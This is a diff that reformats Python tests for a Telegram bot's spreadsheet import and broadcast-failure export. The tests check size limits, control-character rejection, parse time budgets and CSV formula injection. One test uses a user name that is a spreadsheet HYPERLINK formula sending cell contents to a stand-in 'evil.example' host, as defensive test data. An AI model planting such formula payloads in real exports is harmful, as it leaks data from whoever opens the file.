@@ -35,7 +35,7 @@ def rezip(content: bytes, changes: dict[str, bytes | Iterator[bytes]]) -> bytes:
                 target.writestr(info.filename, source.read(info.filename))
         for name, data in changes.items():
             with target.open(name, "w") as fh:
-                for chunk in ([data] if isinstance(data, bytes) else data):
+                for chunk in [data] if isinstance(data, bytes) else data:
                     fh.write(chunk)
     return out.getvalue()
 
@@ -60,9 +60,16 @@ async def test_a_file_over_the_size_limit_is_refused_before_it_is_downloaded(bot
     await start_import(staff)
     content = xlsx(CRAFTSMAN_COLUMNS, [GOOD])
     stored = bot.api.world.store_file(content, "document", XLSX)
-    bot.api.user_message(staff.id, document={"file_id": stored.file_id, "file_unique_id": stored.file_unique_id,
-                                             "file_name": "craftsmen.xlsx", "mime_type": XLSX,
-                                             "file_size": 11 * 1024 * 1024})  # as Telegram declares it
+    bot.api.user_message(
+        staff.id,
+        document={
+            "file_id": stored.file_id,
+            "file_unique_id": stored.file_unique_id,
+            "file_name": "craftsmen.xlsx",
+            "mime_type": XLSX,
+            "file_size": 11 * 1024 * 1024,
+        },
+    )  # as Telegram declares it
     await staff.expect("文件太大了（最大 10 MB）")
     assert bot.api.world.calls.get("getFile", 0) == 0, "refused before it was downloaded"
     assert await craftsmen(bot) == []
@@ -108,21 +115,28 @@ async def test_nul_control_characters_and_an_oversized_field_are_named_by_row_an
     row is rejected with its own reason and its spreadsheet row number; the valid row can still be imported and
     nothing with a NUL reaches the database (PostgreSQL would refuse it)."""
     staff = await staffer(bot)
-    lines = [",".join(ENTERPRISE_COLUMNS),
-             "",
-             "湖州某铝业有限公司,91330100799655058B,专精特新,330502,C32,李工,0572-2345678",
-             "湖州\x00某厂,91330100799655058B,,,,,",
-             "",
-             "湖州某纺织厂,91330100799655058B,,,,张\x07工,",
-             "湖州某电机厂,91330100799655058C,,,,,",
-             '湖州某化工厂,91330100799655058B,,,,"' + "很长" * 100_000 + '",']
+    lines = [
+        ",".join(ENTERPRISE_COLUMNS),
+        "",
+        "湖州某铝业有限公司,91330100799655058B,专精特新,330502,C32,李工,0572-2345678",
+        "湖州\x00某厂,91330100799655058B,,,,,",
+        "",
+        "湖州某纺织厂,91330100799655058B,,,,张\x07工,",
+        "湖州某电机厂,91330100799655058C,,,,,",
+        '湖州某化工厂,91330100799655058B,,,,"' + "很长" * 100_000 + '",',
+    ]
     await start_import(staff)
     staff.send_document(("\n".join(lines) + "\n").encode("utf-8"), "enterprises.csv", "text/csv")
     report = await staff.expect("其中 4 行有误")
     text = report["text"]
-    for needed in ("文件共 5 行数据", "第 4 行：A4 单元格（企业名称）含有空字符（NUL）",
-                   "第 6 行：F6 单元格（联系人）含有不可见的控制字符（U+0007）", "第 7 行：", "最后一位应为 B",
-                   "第 8 行：F8 单元格（联系人）的内容太长（200000 字，最多 5000 字）"):
+    for needed in (
+        "文件共 5 行数据",
+        "第 4 行：A4 单元格（企业名称）含有空字符（NUL）",
+        "第 6 行：F6 单元格（联系人）含有不可见的控制字符（U+0007）",
+        "第 7 行：",
+        "最后一位应为 B",
+        "第 8 行：F8 单元格（联系人）的内容太长（200000 字，最多 5000 字）",
+    ):
         assert needed in text, needed
     assert "出了问题" not in text and "\x00" not in text and "\x07" not in text
     staff.press("仅导入有效的 1 行", report)
@@ -161,8 +175,10 @@ async def test_a_long_list_of_errors_arrives_as_a_file(bot: BotHarness):
 def blank_rows(count: int) -> Iterator[bytes]:
     """A sheet: the header, then ``count`` rows holding only an empty formatted cell (each numbered, so the sheet
     inflates about 20× — an ordinary ratio — and needs seconds to parse)."""
-    yield (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-           b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">')
+    yield (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
+    )
     for index, name in enumerate(CRAFTSMAN_COLUMNS, 1):
         yield f'<c r="{chr(64 + index)}1" t="inlineStr"><is><t>{name}</t></is></c>'.encode()
     yield b"</row>"
@@ -176,11 +192,13 @@ def blank_rows(count: int) -> Iterator[bytes]:
 
 
 async def test_other_users_are_answered_while_an_import_parses_and_a_parse_past_its_budget_is_stopped(
-        bot: BotHarness, monkeypatch):
+    bot: BotHarness, monkeypatch
+):
     """A million-row workbook (5 MB) takes the parser many seconds. Meanwhile another user is answered; the parse
     is stopped at its budget (3 s here) with a clear answer, and its worker process is gone."""
     try:
         import services.tables as tables
+
         monkeypatch.setattr(tables, "BUDGET_SECONDS", 3.0)
     except ImportError:  # before the fix there was no budget
         pass
@@ -205,13 +223,22 @@ async def test_the_broadcast_failures_csv_writes_a_formula_name_as_text(bot: Bot
     name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
     await bot.services.users.register(4242, name, username="evil_user")
     async with bot.services.db.session() as session:
-        broadcast = Broadcast(created_by=staff.id, audience={}, text="通知", status=BroadcastStatus.DONE, total=1,
-                              send_at=bot.clock.now())
+        broadcast = Broadcast(
+            created_by=staff.id, audience={}, text="通知", status=BroadcastStatus.DONE, total=1, send_at=bot.clock.now()
+        )
         session.add(broadcast)
         await session.flush()
-        session.add(Notification(chat_id=4242, kind="broadcast", dedupe_key=f"broadcast:{broadcast.id}:4242",
-                                 payload={"text": "通知"}, status=OutboxStatus.BLOCKED, broadcast_id=broadcast.id,
-                                 last_error="Forbidden: bot was blocked by the user"))
+        session.add(
+            Notification(
+                chat_id=4242,
+                kind="broadcast",
+                dedupe_key=f"broadcast:{broadcast.id}:4242",
+                payload={"text": "通知"},
+                status=OutboxStatus.BLOCKED,
+                broadcast_id=broadcast.id,
+                last_error="Forbidden: bot was blocked by the user",
+            )
+        )
         broadcast_id = broadcast.id
     staff.send("/help")
     message = await staff.expect("我能为您做什么")
